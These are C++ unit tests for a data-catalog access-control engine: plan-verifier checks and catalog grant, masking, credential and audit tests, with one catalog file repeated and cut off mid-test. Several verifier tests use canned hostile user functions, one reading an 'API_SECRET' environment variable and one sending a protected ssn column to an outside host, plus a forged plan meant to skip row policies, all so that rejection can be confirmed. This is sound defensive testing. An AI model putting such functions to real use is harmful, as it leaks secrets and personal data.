      /*allow_write=*/false, /*ttl_micros=*/60'000'000);
  analysis.read_tokens["main.s.sales"] = cred.token_id;
  Diagnostics diags = Verify(analysis.plan, admin_ctx_, &analysis);
  ASSERT_TRUE(diags.HasCode(PlanVerifier::kOverbroadCredential))
      << diags.ToString();
  EXPECT_NE(diags.ToString().find("eve"), std::string::npos);
}

// ---- V8 (PV008): bytecode-admission of sandbox-dispatched UDFs --------------

TEST_F(PlanVerifierTest, BenignCatalogedUdfProducesNoDiagnostics) {
  MustCreateFunction("main.s.add2", canned::SumUdf());
  AnalysisResult analysis = Analyzed(
      "SELECT main.s.add2(amount, amount) AS v FROM main.s.sales",
      admin_ctx_);
  Diagnostics diags = Verify(analysis.plan, admin_ctx_, &analysis);
  EXPECT_TRUE(diags.empty()) << diags.ToString();
}

TEST_F(PlanVerifierTest, DivergentUdfFlagsPV008) {
  MustCreateFunction("main.s.spin", canned::InfiniteLoopUdf());
  AnalysisResult analysis =
      Analyzed("SELECT main.s.spin() AS v FROM main.s.plain", admin_ctx_);
  Diagnostics diags = Verify(analysis.plan, admin_ctx_, &analysis);
  ASSERT_TRUE(diags.HasCode(PlanVerifier::kUdfUnverified))
      << diags.ToString();
  EXPECT_NE(diags.ToString().find("can never return"), std::string::npos)
      << diags.ToString();
  // On an engine without UDF isolation (the legacy baseline) there is no
  // sandbox to admit against: V8 is gated off, everything else still runs.
  PlanVerifier legacy(&platform_.catalog(), /*check_udf_admission=*/false);
  Diagnostics ungated = legacy.Verify(analysis.plan, admin_ctx_, &analysis);
  EXPECT_FALSE(ungated.HasCode(PlanVerifier::kUdfUnverified))
      << ungated.ToString();
}

TEST_F(PlanVerifierTest, UngrantedHostCapabilityFlagsPV008) {
  MustCreateFunction("main.s.probe", canned::EnvProbeUdf("API_SECRET"));
  AnalysisResult analysis =
      Analyzed("SELECT main.s.probe() AS v FROM main.s.plain", admin_ctx_);
  Diagnostics diags = Verify(analysis.plan, admin_ctx_, &analysis);
  ASSERT_TRUE(diags.HasCode(PlanVerifier::kUdfUnverified))
      << diags.ToString();
  EXPECT_NE(diags.ToString().find("get_env"), std::string::npos)
      << diags.ToString();
}

TEST_F(PlanVerifierTest, TaintedMaskedColumnIntoEgressSinkFlagsPV008) {
  // The function's egress host IS granted: the capability check passes and
  // only the information-flow check can (and must) reject the ssn binding.
  MustCreateFunction(
      "main.s.report",
      canned::NetworkExfiltrationUdf("http://api.partner.example/q"),
      {"api.partner.example"});
  AnalysisResult analysis = Analyzed(
      "SELECT main.s.report(ssn) AS r FROM main.s.customers", admin_ctx_);
  Diagnostics diags = Verify(analysis.plan, admin_ctx_, &analysis);
  ASSERT_TRUE(diags.HasCode(PlanVerifier::kUdfUnverified))
      << diags.ToString();
  EXPECT_NE(diags.ToString().find("policy-protected column"),
            std::string::npos)
      << diags.ToString();
  // The same function over an unprotected column of the same table is
  // admissible — the rejection is per-binding, not per-function.
  AnalysisResult clean_analysis = Analyzed(
      "SELECT main.s.report(name) AS r FROM main.s.customers", admin_ctx_);
  Diagnostics clean =
      Verify(clean_analysis.plan, admin_ctx_, &clean_analysis);
  EXPECT_FALSE(clean.HasCode(PlanVerifier::kUdfUnverified))
      << clean.ToString();
}

TEST_F(PlanVerifierTest, VanishedUdfIsAWarningNotAnError) {
  AnalysisResult analysis = Analyzed("SELECT x FROM main.s.plain",
                                     admin_ctx_);
  // A call naming a function the catalog no longer holds: execution fails
  // closed on the unresolved body, so the verifier only warns.
  PlanPtr mutated = MakeProject(
      analysis.plan,
      {Udf("main.s.vanished", "admin", TypeKind::kInt64, {ColIdx("x", 0)})},
      {"y"});
  Diagnostics diags = Verify(mutated, admin_ctx_, &analysis);
  EXPECT_FALSE(diags.HasErrors()) << diags.ToString();
  EXPECT_TRUE(diags.HasCode(PlanVerifier::kUdfUnverified))
      << diags.ToString();
}

// ---- PV000: malformed input -------------------------------------------------

TEST_F(PlanVerifierTest, UnresolvedRelationFlagsPV000) {
  Diagnostics diags = Verify(MakeTableRef("main.s.sales"), admin_ctx_);
  EXPECT_TRUE(diags.HasCode(PlanVerifier::kMalformed)) << diags.ToString();
  EXPECT_TRUE(diags.HasErrors());
}

TEST_F(PlanVerifierTest, UnresolvedColumnFlagsPV000) {
  AnalysisResult analysis = Analyzed("SELECT x FROM main.s.plain",
                                     admin_ctx_);
  PlanPtr mutated =
      MakeProject(analysis.plan, {Col("never_resolved")}, {"y"});
  Diagnostics diags = Verify(mutated, admin_ctx_);
  EXPECT_TRUE(diags.HasCode(PlanVerifier::kMalformed)) << diags.ToString();
}

// ---- Rewrite attribution (the LAKEGUARD_VERIFY_REWRITES hook) ---------------

TEST_F(PlanVerifierTest, VerifyHookAttributesEachRewriteToItsRule) {
  AnalysisResult analysis = Analyzed(
      "SELECT amount + (1 + 2) AS v FROM main.s.sales WHERE amount > 10",
      admin_ctx_);
  Optimizer optimizer;
  std::vector<std::string> rules;
  optimizer.set_verify_hook([&](const PlanPtr& plan, const char* rule) {
    EXPECT_NE(plan, nullptr);
    rules.emplace_back(rule);
    return Status::OK();
  });
  auto optimized = optimizer.Optimize(analysis.plan);
  ASSERT_TRUE(optimized.ok()) << optimized.status();
  ASSERT_FALSE(rules.empty());
  for (const std::string& rule : rules) {
    EXPECT_TRUE(rule == "fold_constants" || rule == "collapse_projects" ||
                rule == "push_filter")
        << "unknown rule name: " << rule;
  }
  // 1 + 2 in the user projection must fold, and the hook must see it.
  EXPECT_NE(std::find(rules.begin(), rules.end(), "fold_constants"),
            rules.end());
  // Single-step mode converges to the same fixpoint as batch mode.
  Optimizer batch;
  auto batch_optimized = batch.Optimize(analysis.plan);
  ASSERT_TRUE(batch_optimized.ok());
  EXPECT_TRUE((*optimized)->Equals(**batch_optimized));
}

TEST_F(PlanVerifierTest, VerifyHookFailureAbortsOptimization) {
  AnalysisResult analysis = Analyzed(
      "SELECT amount + (1 + 2) AS v FROM main.s.sales", admin_ctx_);
  Optimizer optimizer;
  optimizer.set_verify_hook([](const PlanPtr&, const char* rule) {
    return Status::FailedPrecondition(std::string("verifier rejected '") +
                                      rule + "'");
  });
  auto optimized = optimizer.Optimize(analysis.plan);
  ASSERT_FALSE(optimized.ok());
  EXPECT_TRUE(optimized.status().IsFailedPrecondition());
  EXPECT_NE(optimized.status().message().find("rejected"),
            std::string::npos);
}

// ---- Connect pre-admission call site ----------------------------------------

TEST_F(PlanVerifierTest, ConnectRejectsPolicySkippingPlanBeforeAdmission) {
  // The analyzer passes pre-resolved scans through untouched, so a client
  // hand-crafting a ResolvedScan leaf skips policy injection entirely. The
  // pre-admission verifier is what stands in the way: typed non-retryable
  // kFailedPrecondition carrying the PV001 diagnostic.
  PolicyInspection info = platform_.catalog().InspectPolicies(
      "eve", admin_ctx_.compute, "main.s.sales");
  ASSERT_TRUE(info.found);
  auto eve = platform_.Connect(cluster_, "tok-eve");
  ASSERT_TRUE(eve.ok()) << eve.status();
  PlanPtr forged =
      MakeResolvedScan("main.s.sales", info.storage_root, info.schema);
  auto rows = eve->ExecutePlanRemote(forged);
  ASSERT_FALSE(rows.ok());
  EXPECT_TRUE(rows.status().IsFailedPrecondition()) << rows.status();
  EXPECT_NE(rows.status().message().find("PV001"), std::string::npos)
      << rows.status();
  // An honest plan over the same table still works for the same session.
  auto honest = eve->Sql("SELECT amount FROM main.s.sales");
  EXPECT_TRUE(honest.ok()) << honest.status();
}

}  // namespace
}  // namespace lakeguard
