// Tests for src/catalog: principals, grants (incl. the USE hierarchy),
// policies, relation resolution per compute type, credential vending,
// group down-scoping and audit.

#include <gtest/gtest.h>

#include "catalog/unity_catalog.h"
#include "common/clock.h"
#include "sql/parser.h"

namespace lakeguard {
namespace {

class CatalogTest : public ::testing::Test {
 protected:
  CatalogTest() : authority_(&clock_), catalog_(&clock_, &authority_) {
    EXPECT_TRUE(catalog_.users().AddUser("admin").ok());
    EXPECT_TRUE(catalog_.users().AddUser("alice").ok());
    EXPECT_TRUE(catalog_.users().AddUser("bob").ok());
    EXPECT_TRUE(catalog_.users().AddGroup("analysts").ok());
    EXPECT_TRUE(catalog_.users().AddUserToGroup("bob", "analysts").ok());
    catalog_.AddMetastoreAdmin("admin");
    EXPECT_TRUE(catalog_.CreateCatalog("admin", "main").ok());
    EXPECT_TRUE(catalog_.CreateSchema("admin", "main.s").ok());

    TableInfo t;
    t.full_name = "main.s.t";
    t.schema = Schema({{"region", TypeKind::kString, true},
                       {"amount", TypeKind::kInt64, true},
                       {"ssn", TypeKind::kString, true}});
    EXPECT_TRUE(catalog_.CreateTable("admin", t).ok());
  }

  ComputeContext Standard() {
    ComputeContext ctx;
    ctx.compute_id = "std-1";
    ctx.can_isolate_user_code = true;
    ctx.privileged_access = false;
    return ctx;
  }

  ComputeContext Dedicated() {
    ComputeContext ctx;
    ctx.compute_id = "ded-1";
    ctx.can_isolate_user_code = false;
    ctx.privileged_access = true;
    return ctx;
  }

  void GrantReadChain(const std::string& principal) {
    EXPECT_TRUE(catalog_.Grant("admin", "main", Privilege::kUseCatalog,
                               principal).ok());
    EXPECT_TRUE(catalog_.Grant("admin", "main.s", Privilege::kUseSchema,
                               principal).ok());
    EXPECT_TRUE(catalog_.Grant("admin", "main.s.t", Privilege::kSelect,
                               principal).ok());
  }

  SimulatedClock clock_;
  CredentialAuthority authority_;
  UnityCatalog catalog_;
};

// ---- Directory ---------------------------------------------------------------------

TEST_F(CatalogTest, DirectoryBasics) {
  EXPECT_TRUE(catalog_.users().UserExists("alice"));
  EXPECT_TRUE(catalog_.users().IsMember("bob", "analysts"));
  EXPECT_FALSE(catalog_.users().IsMember("alice", "analysts"));
  EXPECT_EQ(catalog_.users().GroupsOf("bob").size(), 1u);
  EXPECT_EQ(catalog_.users().MembersOf("analysts").size(), 1u);
  EXPECT_TRUE(catalog_.users().AddUser("alice").code() ==
              StatusCode::kAlreadyExists);
  EXPECT_TRUE(catalog_.users().RemoveUserFromGroup("bob", "analysts").ok());
  EXPECT_FALSE(catalog_.users().IsMember("bob", "analysts"));
}

// ---- Namespace management ------------------------------------------------------------

TEST_F(CatalogTest, OnlyAdminsCreateCatalogs) {
  EXPECT_TRUE(catalog_.CreateCatalog("alice", "rogue").IsPermissionDenied());
  EXPECT_TRUE(catalog_.CreateCatalog("admin", "main").code() ==
              StatusCode::kAlreadyExists);
}

TEST_F(CatalogTest, SchemaRequiresCreateOnCatalog) {
  EXPECT_TRUE(catalog_.CreateSchema("alice", "main.x").IsPermissionDenied());
  ASSERT_TRUE(
      catalog_.Grant("admin", "main", Privilege::kCreate, "alice").ok());
  EXPECT_TRUE(catalog_.CreateSchema("alice", "main.x").ok());
}

TEST_F(CatalogTest, TableCreationAssignsOwnerAndRoot) {
  auto t = catalog_.GetTable("main.s.t");
  ASSERT_TRUE(t.ok());
  EXPECT_EQ(t->owner, "admin");
  EXPECT_EQ(t->storage_root, "mem://metastore/main/s/t");
}

TEST_F(CatalogTest, DuplicateRelationNamesRejected) {
  TableInfo dup;
  dup.full_name = "main.s.t";
  dup.schema = Schema({{"x", TypeKind::kInt64, true}});
  EXPECT_EQ(catalog_.CreateTable("admin", dup).code(),
            StatusCode::kAlreadyExists);
  ViewInfo v;
  v.full_name = "main.s.t";
  v.sql_text = "SELECT 1";
  EXPECT_EQ(catalog_.CreateView("admin", v).code(),
            StatusCode::kAlreadyExists);
}

TEST_F(CatalogTest, DropTableOwnerOnly) {
  EXPECT_TRUE(catalog_.DropTable("alice", "main.s.t").IsPermissionDenied());
  EXPECT_TRUE(catalog_.DropTable("admin", "main.s.t").ok());
  EXPECT_TRUE(catalog_.GetTable("main.s.t").status().IsNotFound());
}

// ---- Grants -----------------------------------------------------------------------------

TEST_F(CatalogTest, UseHierarchyRequired) {
  // SELECT alone is not enough: USE CATALOG and USE SCHEMA are required.
  ASSERT_TRUE(
      catalog_.Grant("admin", "main.s.t", Privilege::kSelect, "alice").ok());
  EXPECT_FALSE(catalog_.HasPrivilege("alice", "main.s.t", Privilege::kSelect));
  ASSERT_TRUE(
      catalog_.Grant("admin", "main", Privilege::kUseCatalog, "alice").ok());
  EXPECT_FALSE(catalog_.HasPrivilege("alice", "main.s.t", Privilege::kSelect));
  ASSERT_TRUE(
      catalog_.Grant("admin", "main.s", Privilege::kUseSchema, "alice").ok());
  EXPECT_TRUE(catalog_.HasPrivilege("alice", "main.s.t", Privilege::kSelect));
}

TEST_F(CatalogTest, GroupGrantsApplyToMembers) {
  GrantReadChain("analysts");
  EXPECT_TRUE(catalog_.HasPrivilege("bob", "main.s.t", Privilege::kSelect));
  EXPECT_FALSE(catalog_.HasPrivilege("alice", "main.s.t", Privilege::kSelect));
}

TEST_F(CatalogTest, RevokeRemovesAccess) {
  GrantReadChain("alice");
  EXPECT_TRUE(catalog_.HasPrivilege("alice", "main.s.t", Privilege::kSelect));
  ASSERT_TRUE(
      catalog_.Revoke("admin", "main.s.t", Privilege::kSelect, "alice").ok());
  EXPECT_FALSE(catalog_.HasPrivilege("alice", "main.s.t", Privilege::kSelect));
  EXPECT_TRUE(catalog_.Revoke("admin", "main.s.t", Privilege::kSelect,
                              "alice").IsNotFound());
}

TEST_F(CatalogTest, NonOwnerCannotGrant) {
  EXPECT_TRUE(catalog_.Grant("alice", "main.s.t", Privilege::kSelect, "bob")
                  .IsPermissionDenied());
  // MANAGE delegates granting.
  ASSERT_TRUE(
      catalog_.Grant("admin", "main.s.t", Privilege::kManage, "alice").ok());
  EXPECT_TRUE(
      catalog_.Grant("alice", "main.s.t", Privilege::kSelect, "bob").ok());
}

TEST_F(CatalogTest, EffectivePrivilegesEnumerates) {
  GrantReadChain("alice");
  auto privs = catalog_.EffectivePrivileges("alice", "main.s.t");
  EXPECT_TRUE(privs.count(Privilege::kSelect));
  EXPECT_FALSE(privs.count(Privilege::kModify));
}

// ---- Policies ----------------------------------------------------------------------------

TEST_F(CatalogTest, PoliciesRequireManage) {
  RowFilterPolicy rf;
  rf.predicate = *ParseSqlExpr("region = 'US'");
  EXPECT_TRUE(catalog_.SetRowFilter("alice", "main.s.t", rf)
                  .IsPermissionDenied());
  EXPECT_TRUE(catalog_.SetRowFilter("admin", "main.s.t", rf).ok());
  EXPECT_TRUE(catalog_.ClearRowFilter("admin", "main.s.t").ok());
}

TEST_F(CatalogTest, MaskValidatesColumn) {
  ColumnMaskPolicy mask;
  mask.column = "no_such_column";
  mask.mask_expr = *ParseSqlExpr("REDACT(x)");
  EXPECT_TRUE(
      catalog_.AddColumnMask("admin", "main.s.t", mask).IsInvalidArgument());
  mask.column = "ssn";
  EXPECT_TRUE(catalog_.AddColumnMask("admin", "main.s.t", mask).ok());
}

// ---- Relation resolution -------------------------------------------------------------------

TEST_F(CatalogTest, ResolutionDeniedWithoutSelect) {
  auto res = catalog_.ResolveRelation("alice", Standard(), "main.s.t");
  EXPECT_TRUE(res.status().IsPermissionDenied());
  EXPECT_GT(catalog_.audit().DeniedCount(), 0u);
}

TEST_F(CatalogTest, PlainTableResolvesLocallyWithToken) {
  GrantReadChain("alice");
  auto res = catalog_.ResolveRelation("alice", Standard(), "main.s.t");
  ASSERT_TRUE(res.ok());
  EXPECT_EQ(res->enforcement, EnforcementMode::kLocal);
  EXPECT_FALSE(res->read_token.empty());
  // The vended token really is user-bound and scoped to the table root.
  auto who = authority_.Authorize(res->read_token,
                                  "mem://metastore/main/s/t/part-0",
                                  StorageOp::kRead);
  ASSERT_TRUE(who.ok());
  EXPECT_EQ(*who, "alice");
  EXPECT_TRUE(authority_
                  .Authorize(res->read_token, "mem://metastore/main/s/u/x",
                             StorageOp::kRead)
                  .status()
                  .IsPermissionDenied());
}

TEST_F(CatalogTest, FgacTableOnStandardReleasesPolicies) {
  GrantReadChain("alice");
  RowFilterPolicy rf;
  rf.predicate = *ParseSqlExpr("region = 'US'");
  ASSERT_TRUE(catalog_.SetRowFilter("admin", "main.s.t", rf).ok());
  auto res = catalog_.ResolveRelation("alice", Standard(), "main.s.t");
  ASSERT_TRUE(res.ok());
  EXPECT_EQ(res->enforcement, EnforcementMode::kLocal);
  ASSERT_TRUE(res->row_filter.has_value());
  EXPECT_FALSE(res->read_token.empty());
}

TEST_F(CatalogTest, FgacTableOnPrivilegedComputeGoesExternal) {
  GrantReadChain("alice");
  RowFilterPolicy rf;
  rf.predicate = *ParseSqlExpr("region = 'US'");
  ASSERT_TRUE(catalog_.SetRowFilter("admin", "main.s.t", rf).ok());
  auto res = catalog_.ResolveRelation("alice", Dedicated(), "main.s.t");
  ASSERT_TRUE(res.ok());
  EXPECT_EQ(res->enforcement, EnforcementMode::kExternal);
  // §3.4: no predicate, no mask, no credential, no storage root leak.
  EXPECT_FALSE(res->row_filter.has_value());
  EXPECT_TRUE(res->column_masks.empty());
  EXPECT_TRUE(res->read_token.empty());
  EXPECT_TRUE(res->table.storage_root.empty());
}

TEST_F(CatalogTest, PlainTableOnPrivilegedComputeStaysLocal) {
  GrantReadChain("alice");
  auto res = catalog_.ResolveRelation("alice", Dedicated(), "main.s.t");
  ASSERT_TRUE(res.ok());
  EXPECT_EQ(res->enforcement, EnforcementMode::kLocal);
  EXPECT_FALSE(res->read_token.empty());
}

TEST_F(CatalogTest, MaskExemptGroupsDropTheMask) {
  GrantReadChain("alice");
  GrantReadChain("analysts");
  ColumnMaskPolicy mask;
  mask.column = "ssn";
  mask.mask_expr = *ParseSqlExpr("MASK(ssn)");
  mask.exempt_groups = {"analysts"};
  ASSERT_TRUE(catalog_.AddColumnMask("admin", "main.s.t", mask).ok());
  auto alice_res = catalog_.ResolveRelation("alice", Standard(), "main.s.t");
  ASSERT_TRUE(alice_res.ok());
  EXPECT_EQ(alice_res->column_masks.size(), 1u);
  auto bob_res = catalog_.ResolveRelation("bob", Standard(), "main.s.t");
  ASSERT_TRUE(bob_res.ok());
  EXPECT_TRUE(bob_res->column_masks.empty());  // bob is in analysts
}

TEST_F(CatalogTest, ViewResolution) {
  ViewInfo v;
  v.full_name = "main.s.v";
  v.sql_text = "SELECT amount FROM main.s.t";
  ASSERT_TRUE(catalog_.CreateView("admin", v).ok());
  ASSERT_TRUE(
      catalog_.Grant("admin", "main", Privilege::kUseCatalog, "alice").ok());
  ASSERT_TRUE(
      catalog_.Grant("admin", "main.s", Privilege::kUseSchema, "alice").ok());
  ASSERT_TRUE(
      catalog_.Grant("admin", "main.s.v", Privilege::kSelect, "alice").ok());
  auto std_res = catalog_.ResolveRelation("alice", Standard(), "main.s.v");
  ASSERT_TRUE(std_res.ok());
  EXPECT_EQ(std_res->type, SecurableType::kView);
  EXPECT_EQ(std_res->enforcement, EnforcementMode::kLocal);
  auto ded_res = catalog_.ResolveRelation("alice", Dedicated(), "main.s.v");
  ASSERT_TRUE(ded_res.ok());
  EXPECT_EQ(ded_res->enforcement, EnforcementMode::kExternal);
}

// ---- Group down-scoping (§4.2) ------------------------------------------------------------

TEST_F(CatalogTest, DownscopeReducesToGroupPermissions) {
  GrantReadChain("alice");  // alice personally has access
  ComputeContext group_ctx = Dedicated();
  group_ctx.downscope_group = "analysts";  // but the cluster is ml_team's
  auto res = catalog_.ResolveRelation("alice", group_ctx, "main.s.t");
  EXPECT_TRUE(res.status().IsPermissionDenied());

  // Once the GROUP holds the grants, any member (and attached alice) works.
  GrantReadChain("analysts");
  auto res2 = catalog_.ResolveRelation("alice", group_ctx, "main.s.t");
  EXPECT_TRUE(res2.ok());
}

TEST_F(CatalogTest, DownscopeDisablesAdminBypass) {
  ComputeContext group_ctx = Standard();
  group_ctx.downscope_group = "analysts";
  auto res = catalog_.ResolveRelation("admin", group_ctx, "main.s.t");
  EXPECT_TRUE(res.status().IsPermissionDenied());
}

TEST_F(CatalogTest, AuditKeepsOriginalIdentityUnderDownscope) {
  GrantReadChain("analysts");
  ComputeContext group_ctx = Standard();
  group_ctx.downscope_group = "analysts";
  ASSERT_TRUE(
      catalog_.ResolveRelation("bob", group_ctx, "main.s.t").ok());
  auto events = catalog_.audit().ForPrincipal("bob");
  ASSERT_FALSE(events.empty());
  EXPECT_EQ(events.back().action, "RESOLVE_RELATION");
  EXPECT_TRUE(events.back().allowed);
}

// ---- Credential vending ----------------------------------------------------------------------

TEST_F(CatalogTest, WriteCredentialNeedsModify) {
  GrantReadChain("alice");
  EXPECT_TRUE(catalog_.VendWriteCredential("alice", Standard(), "main.s.t")
                  .status()
                  .IsPermissionDenied());
  ASSERT_TRUE(
      catalog_.Grant("admin", "main.s.t", Privilege::kModify, "alice").ok());
  auto cred = catalog_.VendWriteCredential("alice", Standard(), "main.s.t");
  ASSERT_TRUE(cred.ok());
  EXPECT_TRUE(cred->allow_write);
}

TEST_F(CatalogTest, WriteCredentialDeniedOnPrivilegedFgac) {
  ASSERT_TRUE(
      catalog_.Grant("admin", "main", Privilege::kUseCatalog, "alice").ok());
  ASSERT_TRUE(
      catalog_.Grant("admin", "main.s", Privilege::kUseSchema, "alice").ok());
  ASSERT_TRUE(
      catalog_.Grant("admin", "main.s.t", Privilege::kModify, "alice").ok());
  RowFilterPolicy rf;
  rf.predicate = *ParseSqlExpr("region = 'US'");
  ASSERT_TRUE(catalog_.SetRowFilter("admin", "main.s.t", rf).ok());
  EXPECT_TRUE(catalog_.VendWriteCredential("alice", Dedicated(), "main.s.t")
                  .status()
                  .IsPermissionDenied());
  EXPECT_TRUE(
      catalog_.VendWriteCredential("alice", Standard(), "main.s.t").ok());
}

TEST_F(CatalogTest, VolumeCredentials) {
  VolumeInfo vol;
  vol.full_name = "main.s.rawfiles";
  vol.storage_prefix = "mem://landing/raw/";
  ASSERT_TRUE(catalog_.CreateVolume("admin", vol).ok());
  ASSERT_TRUE(
      catalog_.Grant("admin", "main", Privilege::kUseCatalog, "alice").ok());
  ASSERT_TRUE(
      catalog_.Grant("admin", "main.s", Privilege::kUseSchema, "alice").ok());
  EXPECT_TRUE(catalog_.VendVolumeCredential("alice", Standard(),
                                            "main.s.rawfiles", false)
                  .status()
                  .IsPermissionDenied());
  ASSERT_TRUE(catalog_.Grant("admin", "main.s.rawfiles",
                             Privilege::kReadVolume, "alice").ok());
  auto cred = catalog_.VendVolumeCredential("alice", Standard(),
                                            "main.s.rawfiles", false);
  ASSERT_TRUE(cred.ok());
  EXPECT_FALSE(cred->allow_write);
}

// ---- Functions -----------------------------------------------------------------------------

TEST_F(CatalogTest, FunctionExecutionRequiresExecute) {
  FunctionInfo fn;
  fn.full_name = "main.s.f";
  fn.num_args = 2;
  fn.return_type = TypeKind::kInt64;
  fn.body.name = "f";
  fn.body.num_args = 2;
  fn.body.code = {{OpCode::kLoadArg, 0, 0},
                  {OpCode::kLoadArg, 1, 0},
                  {OpCode::kAdd, 0, 0},
                  {OpCode::kReturn, 0, 0}};
  ASSERT_TRUE(catalog_.CreateFunction("admin", fn).ok());
  ASSERT_TRUE(
      catalog_.Grant("admin", "main", Privilege::kUseCatalog, "alice").ok());
  ASSERT_TRUE(
      catalog_.Grant("admin", "main.s", Privilege::kUseSchema, "alice").ok());
  EXPECT_TRUE(catalog_.ResolveFunction("alice", Standard(), "main.s.f")
                  .status()
                  .IsPermissionDenied());
  ASSERT_TRUE(
      catalog_.Grant("admin", "main.s.f", Privilege::kExecute, "alice").ok());
  auto resolved = catalog_.ResolveFunction("alice", Standard(), "main.s.f");
  ASSERT_TRUE(resolved.ok());
  EXPECT_EQ(resolved->owner, "admin");  // trust domain
}

TEST_F(CatalogTest, InvalidFunctionBodyRejected) {
  FunctionInfo fn;
  fn.full_name = "main.s.broken";
  fn.body.name = "broken";
  EXPECT_TRUE(catalog_.CreateFunction("admin", fn).IsInvalidArgument());
}

// ---- Audit ---------------------------------------------------------------------------------

TEST_F(CatalogTest, AuditCapturesDecisions) {
  size_t before = catalog_.audit().size();
  (void)catalog_.ResolveRelation("alice", Standard(), "main.s.t");  // denied
  GrantReadChain("alice");
  (void)catalog_.ResolveRelation("alice", Standard(), "main.s.t");  // allowed
  auto events = catalog_.audit().ForSecurable("main.s.t");
  EXPECT_GE(catalog_.audit().size(), before + 2);
  bool saw_denied = false, saw_allowed = false;
  for (const AuditEvent& e : events) {
    if (e.action == "RESOLVE_RELATION") {
      (e.allowed ? saw_allowed : saw_denied) = true;
    }
  }
  EXPECT_TRUE(saw_denied);
  EXPECT_TRUE(saw_allowed);
}

}  // namespace
}  // namespace lakeguard
