// Tests for src/catalog: principals, grants (incl. the USE hierarchy),
// policies, relation resolution per compute type, credential vending,
// group down-scoping and audit.

#include <gtest/gtest.h>

#include <atomic>
#include <chrono>
#include <optional>
#include <thread>
#include <vector>

#include "catalog/unity_catalog.h"
#include "common/clock.h"
#include "sql/parser.h"

namespace lakeguard {
namespace {

class CatalogTest : public ::testing::Test {
 protected:
  CatalogTest() : authority_(&clock_), catalog_(&clock_, &authority_) {
    EXPECT_TRUE(catalog_.users().AddUser("admin").ok());
    EXPECT_TRUE(catalog_.users().AddUser("alice").ok());
    EXPECT_TRUE(catalog_.users().AddUser("bob").ok());
    EXPECT_TRUE(catalog_.users().AddGroup("analysts").ok());
    EXPECT_TRUE(catalog_.users().AddUserToGroup("bob", "analysts").ok());
    EXPECT_TRUE(catalog_.AddMetastoreAdmin("admin").ok());
    EXPECT_TRUE(catalog_.CreateCatalog("admin", "main").ok());
    EXPECT_TRUE(catalog_.CreateSchema("admin", "main.s").ok());

    TableInfo t;
    t.full_name = "main.s.t";
    t.schema = Schema({{"region", TypeKind::kString, true},
                       {"amount", TypeKind::kInt64, true},
                       {"ssn", TypeKind::kString, true}});
    EXPECT_TRUE(catalog_.CreateTable("admin", t).ok());
  }

  ComputeContext Standard() {
    ComputeContext ctx;
    ctx.compute_id = "std-1";
    ctx.can_isolate_user_code = true;
    ctx.privileged_access = false;
    return ctx;
  }

  ComputeContext Dedicated() {
    ComputeContext ctx;
    ctx.compute_id = "ded-1";
    ctx.can_isolate_user_code = false;
    ctx.privileged_access = true;
    return ctx;
  }

  void GrantReadChain(const std::string& principal) {
    EXPECT_TRUE(catalog_.Grant("admin", "main", Privilege::kUseCatalog,
                               principal).ok());
    EXPECT_TRUE(catalog_.Grant("admin", "main.s", Privilege::kUseSchema,
                               principal).ok());
    EXPECT_TRUE(catalog_.Grant("admin", "main.s.t", Privilege::kSelect,
                               principal).ok());
  }

  SimulatedClock clock_;
  CredentialAuthority authority_;
  UnityCatalog catalog_;
};

// ---- Directory ---------------------------------------------------------------------

TEST_F(CatalogTest, DirectoryBasics) {
  EXPECT_TRUE(catalog_.users().UserExists("alice"));
  EXPECT_TRUE(catalog_.users().IsMember("bob", "analysts"));
  EXPECT_FALSE(catalog_.users().IsMember("alice", "analysts"));
  EXPECT_EQ(catalog_.users().GroupsOf("bob").size(), 1u);
  EXPECT_EQ(catalog_.users().MembersOf("analysts").size(), 1u);
  EXPECT_TRUE(catalog_.users().AddUser("alice").code() ==
              StatusCode::kAlreadyExists);
  EXPECT_TRUE(catalog_.users().RemoveUserFromGroup("bob", "analysts").ok());
  EXPECT_FALSE(catalog_.users().IsMember("bob", "analysts"));
}

// ---- Namespace management ------------------------------------------------------------

TEST_F(CatalogTest, OnlyAdminsCreateCatalogs) {
  EXPECT_TRUE(catalog_.CreateCatalog("alice", "rogue").IsPermissionDenied());
  EXPECT_TRUE(catalog_.CreateCatalog("admin", "main").code() ==
              StatusCode::kAlreadyExists);
}

TEST_F(CatalogTest, SchemaRequiresCreateOnCatalog) {
  EXPECT_TRUE(catalog_.CreateSchema("alice", "main.x").IsPermissionDenied());
  ASSERT_TRUE(
      catalog_.Grant("admin", "main", Privilege::kCreate, "alice").ok());
  EXPECT_TRUE(catalog_.CreateSchema("alice", "main.x").ok());
}

TEST_F(CatalogTest, TableCreationAssignsOwnerAndRoot) {
  auto t = catalog_.GetTable("main.s.t");
  ASSERT_TRUE(t.ok());
  EXPECT_EQ(t->owner, "admin");
  EXPECT_EQ(t->storage_root, "mem://metastore/main/s/t");
}

TEST_F(CatalogTest, DuplicateRelationNamesRejected) {
  TableInfo dup;
  dup.full_name = "main.s.t";
  dup.schema = Schema({{"x", TypeKind::kInt64, true}});
  EXPECT_EQ(catalog_.CreateTable("admin", dup).code(),
            StatusCode::kAlreadyExists);
  ViewInfo v;
  v.full_name = "main.s.t";
  v.sql_text = "SELECT 1";
  EXPECT_EQ(catalog_.CreateView("admin", v).code(),
            StatusCode::kAlreadyExists);
}

TEST_F(CatalogTest, DropTableOwnerOnly) {
  EXPECT_TRUE(catalog_.DropTable("alice", "main.s.t").IsPermissionDenied());
  EXPECT_TRUE(catalog_.DropTable("admin", "main.s.t").ok());
  EXPECT_TRUE(catalog_.GetTable("main.s.t").status().IsNotFound());
}

// ---- Grants -----------------------------------------------------------------------------

TEST_F(CatalogTest, UseHierarchyRequired) {
  // SELECT alone is not enough: USE CATALOG and USE SCHEMA are required.
  ASSERT_TRUE(
      catalog_.Grant("admin", "main.s.t", Privilege::kSelect, "alice").ok());
  EXPECT_FALSE(catalog_.HasPrivilege("alice", "main.s.t", Privilege::kSelect));
  ASSERT_TRUE(
      catalog_.Grant("admin", "main", Privilege::kUseCatalog, "alice").ok());
  EXPECT_FALSE(catalog_.HasPrivilege("alice", "main.s.t", Privilege::kSelect));
  ASSERT_TRUE(
      catalog_.Grant("admin", "main.s", Privilege::kUseSchema, "alice").ok());
  EXPECT_TRUE(catalog_.HasPrivilege("alice", "main.s.t", Privilege::kSelect));
}

TEST_F(CatalogTest, GroupGrantsApplyToMembers) {
  GrantReadChain("analysts");
  EXPECT_TRUE(catalog_.HasPrivilege("bob", "main.s.t", Privilege::kSelect));
  EXPECT_FALSE(catalog_.HasPrivilege("alice", "main.s.t", Privilege::kSelect));
}

TEST_F(CatalogTest, RevokeRemovesAccess) {
  GrantReadChain("alice");
